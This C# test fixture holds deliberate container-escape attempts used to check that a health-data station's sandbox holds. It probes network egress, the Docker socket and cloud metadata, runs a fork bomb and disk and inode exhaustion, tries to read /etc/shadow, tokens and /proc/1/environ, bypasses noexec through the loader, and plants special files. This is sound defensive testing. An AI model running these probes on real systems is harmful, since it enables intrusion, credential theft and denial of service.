using System.Diagnostics;
using System.Net;
using System.Net.NetworkInformation;
using System.Net.Sockets;
using System.Runtime.InteropServices;
using System.Text;

namespace HealthTrain.Fixtures.MisbehavingTrain;

/// <summary>
/// Real attempts to break out of the station's lock-down. Each reports every attempt and what happened; none of
/// them may succeed at a station, and the end-to-end tests read the report from the job's recorded log tail.
/// </summary>
internal static class Attacks
{
    private const int MiB = 1024 * 1024;

    /// <summary>Name resolution, TCP to the hub's port and to host and private addresses, UDP out: all must fail (network none).</summary>
    public static int Network(long hubPort)
    {
        var report = new AttackReport("network");
        var interfaces = NetworkInterface.GetAllNetworkInterfaces().Select(i => i.Name).ToList();
        if (interfaces.Any(n => n != "lo")) report.Escaped("network interfaces", string.Join(", ", interfaces));
        else report.Blocked("network interfaces", "only " + string.Join(", ", interfaces));
        foreach (var name in new[] { "example.org", "host.docker.internal", "gateway.docker.internal" })
            report.Try($"resolve {name}", () => "resolved to " + string.Join(", ", Dns.GetHostAddresses(name).Select(a => a.ToString())));

        var targets = new List<(string Host, int Port, string What)>();
        if (hubPort > 0) targets.Add(("127.0.0.1", (int)hubPort, "the hub's port on loopback"));
        targets.Add(("172.17.0.1", 2375, "Docker API on the default bridge gateway"));
        if (DefaultGateway() is { } gateway) targets.Add((gateway, 80, "the default gateway"));
        targets.Add(("10.0.0.1", 80, "a private address"));
        targets.Add(("192.168.1.1", 80, "a private address"));
        targets.Add(("169.254.169.254", 80, "cloud metadata"));
        targets.Add(("1.1.1.1", 443, "the internet"));
        foreach (var (host, port, what) in targets)
            report.Try($"tcp {host}:{port} ({what})", () =>
            {
                using var socket = new Socket(SocketType.Stream, ProtocolType.Tcp);
                using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(3));
                socket.ConnectAsync(IPAddress.Parse(host), port, timeout.Token).AsTask().GetAwaiter().GetResult();
                return "connected";
            });
        foreach (var (host, port) in new[] { ("8.8.8.8", 53), ("172.17.0.1", 53) })
            report.Try($"udp {host}:{port}", () =>
            {
                using var udp = new UdpClient();
                var sent = udp.Send(new byte[] { 0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0 }, 12, host, port);
                return $"sent {sent} bytes";
            });
        return report.Finish();
    }

    /// <summary>The gateway of the default route, if the container has one (it must not).</summary>
    private static string? DefaultGateway()
    {
        foreach (var line in File.ReadLines("/proc/net/route").Skip(1))
        {
            var f = line.Split('\t', StringSplitOptions.RemoveEmptyEntries);
            if (f.Length > 2 && f[1] == "00000000")
                return new IPAddress(BitConverter.GetBytes(Convert.ToUInt32(f[2], 16))).ToString();
        }
        return null;
    }

    /// <summary>Writes outside /output and /tmp, /tmp past its size, and executing what was written to /tmp.</summary>
    public static int WriteOutside()
    {
        var report = new AttackReport("write-outside");
        foreach (var folder in new[] { "/", "/etc", "/usr", "/input", "/home", "/var", "/app" })
            report.Try($"write {folder}", () =>
            {
                Directory.CreateDirectory(folder);
                var path = Path.Combine(folder, "misbehaving-train-was-here");
                File.WriteAllText(path, "x");
                return $"wrote {path}";
            });

        report.Try("fill /tmp (up to 4 GiB)", () =>
        {
            var chunk = new byte[MiB];
            long written = 0;
            try
            {
                using var file = File.Create("/tmp/fill");
                for (; written < 4096L * MiB; written += chunk.Length) file.Write(chunk);
                file.Flush();
            }
            catch (IOException e)
            {
                throw new IOException($"{e.Message} after {written / MiB} MiB", e);
            }
            finally
            {
                File.Delete("/tmp/fill");
            }
            return $"wrote {written / MiB} MiB";
        });

        var program = "/tmp/exit42";
        File.WriteAllBytes(program, ExitWith42());
        File.SetUnixFileMode(program, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        report.Try($"execute {program}", () => Ran(Process.Start(program)));
        // The dynamic loader maps a program itself, the old way around noexec.
        report.Try($"execute {program} through /lib64/ld-linux-x86-64.so.2", () => Ran(Process.Start("/lib64/ld-linux-x86-64.so.2", program)));
        report.Note("/dev/shm is " + (CanWrite("/dev/shm") ? "writable (Docker's tmpfs, noexec, gone with the container)" : "not writable"));
        return report.Finish();
    }

    /// <summary>Only exit code 42 proves the program ran; anything else (the loader's refusal) is a block.</summary>
    private static string Ran(Process? process)
    {
        using var p = process ?? throw new InvalidOperationException("no process");
        p.WaitForExit();
        return p.ExitCode == 42 ? "it ran (exit code 42)" : throw new InvalidOperationException($"it did not run (exit code {p.ExitCode})");
    }

    private static bool CanWrite(string folder)
    {
        try
        {
            var path = Path.Combine(folder, "probe");
            File.WriteAllText(path, "x");
            File.Delete(path);
            return true;
        }
        catch (Exception e) when (e is IOException or UnauthorizedAccessException)
        {
            return false;
        }
    }

    /// <summary>A 132-byte static x86-64 ELF program that exits with code 42: mov edi, 42; mov eax, 60 (exit); syscall.</summary>
    private static byte[] ExitWith42()
    {
        byte[] code = [0xbf, 42, 0, 0, 0, 0xb8, 60, 0, 0, 0, 0x0f, 0x05];
        const ulong Base = 0x400000;
        const int Headers = 64 + 56;
        var length = (ulong)(Headers + code.Length);
        using var buffer = new MemoryStream();
        using var w = new BinaryWriter(buffer);
        w.Write([0x7f, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        w.Write((ushort)2); w.Write((ushort)0x3e); w.Write(1u); w.Write(Base + Headers); w.Write(64UL); w.Write(0UL); w.Write(0u);
        w.Write((ushort)64); w.Write((ushort)56); w.Write((ushort)1); w.Write((ushort)0); w.Write((ushort)0); w.Write((ushort)0);
        w.Write(1u); w.Write(5u); w.Write(0UL); w.Write(Base); w.Write(Base); w.Write(length); w.Write(length); w.Write(0x1000UL);
        w.Write(code);
        w.Flush();
        return buffer.ToArray();
    }

    /// <summary>Writes to /output as fast as it can, far past any sensible cap; the station must stop it.</summary>
    public static int WritePastCap(long megabytes)
    {
        var report = new AttackReport("write-past-cap");
        report.Say($"writing {megabytes} MiB to /output/blob");
        var chunk = new byte[MiB];
        Random.Shared.NextBytes(chunk);
        using (var file = File.Create("/output/blob"))
            for (long i = 1; i <= megabytes; i++)
            {
                file.Write(chunk);
                if (i % 16 == 0)
                {
                    file.Flush();
                    report.Say($"{i} MiB written");
                }
            }
        report.Escaped($"write {megabytes} MiB to /output", "the train was not stopped");
        return report.Finish();
    }

    /// <summary>Creates empty files in /output until stopped: a million inodes cost the station's disk without any bytes.</summary>
    public static int ManyFiles(long count)
    {
        var report = new AttackReport("many-files");
        report.Say($"creating {count} files in /output/many");
        Directory.CreateDirectory("/output/many");
        for (long i = 1; i <= count; i++)
        {
            File.Create($"/output/many/{i}").Dispose();
            if (i % 1000 == 0) report.Say($"{i} files created");
        }
        report.Escaped($"create {count} files in /output", "the train was not stopped");
        return report.Finish();
    }

    /// <summary>Threads, then processes, until the kernel refuses more (the pids limit); then lets them go and reports.</summary>
    public static int ForkBomb()
    {
        var report = new AttackReport("fork-bomb");
        const int Enough = 100_000;
        using var gate = new ManualResetEventSlim();
        var threads = new List<Thread>();
        string? refusal = null;
        while (threads.Count < Enough && refusal is null)
        {
            var thread = new Thread(() => gate.Wait(), 64 * 1024) { IsBackground = true };
            try
            {
                thread.Start();
                threads.Add(thread);
            }
            catch (Exception e)
            {
                refusal = AttackReport.Describe(e);
            }
        }
        gate.Set();
        foreach (var t in threads) t.Join();
        if (refusal is null) report.Escaped($"start {Enough} threads", "all started");
        else report.Blocked($"start threads until refused", $"refused after {threads.Count}: {refusal}");

        // Resolve the stubs now: a forked child must not need the JIT, whose other threads it lacks.
        Marshal.Prelink(typeof(Libc).GetMethod(nameof(Libc.fork))!);
        Marshal.Prelink(typeof(Libc).GetMethod(nameof(Libc.pause))!);
        var children = new List<int>();
        var errno = 0;
        while (children.Count < Enough)
        {
            var pid = Libc.fork();
            if (pid == 0)
                while (true) Libc.pause(); // child: hold a pid until killed
            if (pid < 0)
            {
                errno = Marshal.GetLastPInvokeError();
                break;
            }
            children.Add(pid);
        }
        foreach (var pid in children) Libc.kill(pid, Libc.SigKill);
        foreach (var pid in children) Libc.waitpid(pid, IntPtr.Zero, 0);
        if (errno == 0) report.Escaped($"fork {Enough} processes", "all forked");
        else report.Blocked("fork processes until refused", $"refused after {children.Count}: {Marshal.GetPInvokeErrorMessage(errno)} (errno {errno})");
        return report.Finish();
    }

    /// <summary>Looks for the Docker socket, the station's token, the host's files and processes, and capabilities.</summary>
    public static int Secrets()
    {
        var report = new AttackReport("secrets");
        foreach (var socket in new[] { "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock" })
            report.Try($"find {socket}", () => File.Exists(socket) || Directory.Exists(socket) ? "it exists" : throw new FileNotFoundException("not there"));

        var environment = Environment.GetEnvironmentVariables().Keys.Cast<string>().Order(StringComparer.Ordinal).ToList();
        report.Note("environment variables: " + string.Join(", ", environment));
        report.Try("find a token in the environment", () => FindSecret(environment.Select(n => $"{n}={Environment.GetEnvironmentVariable(n)}")));
        report.Try("find a token in /proc/1/environ", () => FindSecret(File.ReadAllText("/proc/1/environ").Split('\0')));

        var processes = Directory.EnumerateDirectories("/proc").Select(Path.GetFileName).Where(n => n!.All(char.IsAsciiDigit)).ToList();
        report.Try($"see the host's processes ({processes.Count} visible)", () =>
        {
            var host = processes.Select(p => Read($"/proc/{p}/cmdline").Replace('\0', ' '))
                                .FirstOrDefault(c => c.Contains("HealthTrain.Station", StringComparison.Ordinal) || c.Contains("dockerd", StringComparison.Ordinal));
            return host is not null ? "saw " + host : throw new InvalidOperationException("only the train's own processes (own pid namespace)");
        });

        var mounts = File.ReadAllLines("/proc/self/mountinfo").Select(l => l.Split(' ')).ToList();
        var inputSource = mounts.FirstOrDefault(m => m.Length > 4 && m[4] == "/input")?[3].Replace("\\040", " ");
        report.Note($"/proc/self/mountinfo lists {mounts.Count} mounts; /input is bound from the host's {inputSource ?? "(not shown)"}");
        // <data dir>/jobs/<id>/input: the station's data dir, with its FHIR store, is three levels up.
        var dataDir = inputSource is null ? null : Path.GetDirectoryName(Path.GetDirectoryName(Path.GetDirectoryName(inputSource)));
        if (dataDir is not null)
        {
            foreach (var path in new[] { Path.Combine(dataDir, "fhir.db"), "/proc/1/root" + Path.Combine(dataDir, "fhir.db") })
                report.Try($"read {path}", () => $"read {File.ReadAllBytes(path).Length} bytes");
        }
        report.Try("read the host's /etc/shadow through /proc/1/root", () => $"read {File.ReadAllText("/proc/1/root/etc/shadow").Length} characters");
        report.Try("read /input/../../etc/hostname of the host", () =>
        {
            var name = File.ReadAllText("/input/../../etc/hostname").Trim();
            return name == Environment.MachineName ? throw new InvalidOperationException($"'..' stays in the container (its own hostname {name})") : "read " + name;
        });

        var status = File.ReadAllLines("/proc/self/status").Select(l => l.Split(':', 2)).Where(p => p.Length == 2)
                         .ToDictionary(p => p[0], p => p[1].Trim());
        report.Note($"uid={status["Uid"].Split('\t')[0]} gid={status["Gid"].Split('\t')[0]} NoNewPrivs={status["NoNewPrivs"]} Seccomp={status["Seccomp"]} CapBnd={status["CapBnd"]}");
        report.Try($"hold capabilities (CapEff={status["CapEff"]}, CapPrm={status["CapPrm"]})", () =>
            Convert.ToUInt64(status["CapEff"], 16) != 0 || Convert.ToUInt64(status["CapPrm"], 16) != 0
                ? "capabilities held"
                : throw new InvalidOperationException("none"));
        return report.Finish();
    }

    private static string FindSecret(IEnumerable<string> variables)
    {
        string[] words = ["TOKEN", "SECRET", "PASSWORD", "Station__"];
        var found = variables.FirstOrDefault(v => v.Contains("=ht_", StringComparison.Ordinal)
            || words.Any(w => v.Split('=')[0].Contains(w, StringComparison.OrdinalIgnoreCase)));
        return found is not null ? "found " + found.Split('=')[0] : throw new InvalidOperationException("none there");
    }

    private static string Read(string path)
    {
        try
        {
            return File.ReadAllText(path);
        }
        catch (Exception e) when (e is IOException or UnauthorizedAccessException)
        {
            return "";
        }
    }

    /// <summary>
    /// Leaves what a careless collector would follow or block on: /output/statistics.json as a named pipe, a symbolic
    /// link to the parameters, and tries a hard link to /input and a device node. Exits 0, so the collector must refuse it.
    /// </summary>
    public static int SpecialOutput()
    {
        var report = new AttackReport("special-output");
        void Attempt(string what, Action act)
        {
            try
            {
                act();
                report.Say($"{what}: done");
            }
            catch (Exception e)
            {
                report.Say($"{what}: refused ({AttackReport.Describe(e)})");
            }
        }
        Attempt("make /output/statistics.json a named pipe", () => Libc.Check(Libc.mkfifo("/output/statistics.json", Convert.ToUInt32("666", 8)), "mkfifo"));
        Attempt("link /output/parameters.json to /input/parameters.json", () => File.CreateSymbolicLink("/output/parameters.json", "/input/parameters.json"));
        Attempt("hard-link /output/input.json to /input/parameters.json", () => Libc.Check(Libc.link("/input/parameters.json", "/output/input.json"), "link"));
        // Character device 1,1 is /dev/mem.
        Attempt("make /output/mem a character device", () => Libc.Check(Libc.mknod("/output/mem", 0x2000 | Convert.ToUInt32("666", 8), (1UL << 8) | 1), "mknod"));
        report.Say("exiting 0: the station's collector must refuse what was left");
        return 0;
    }
}
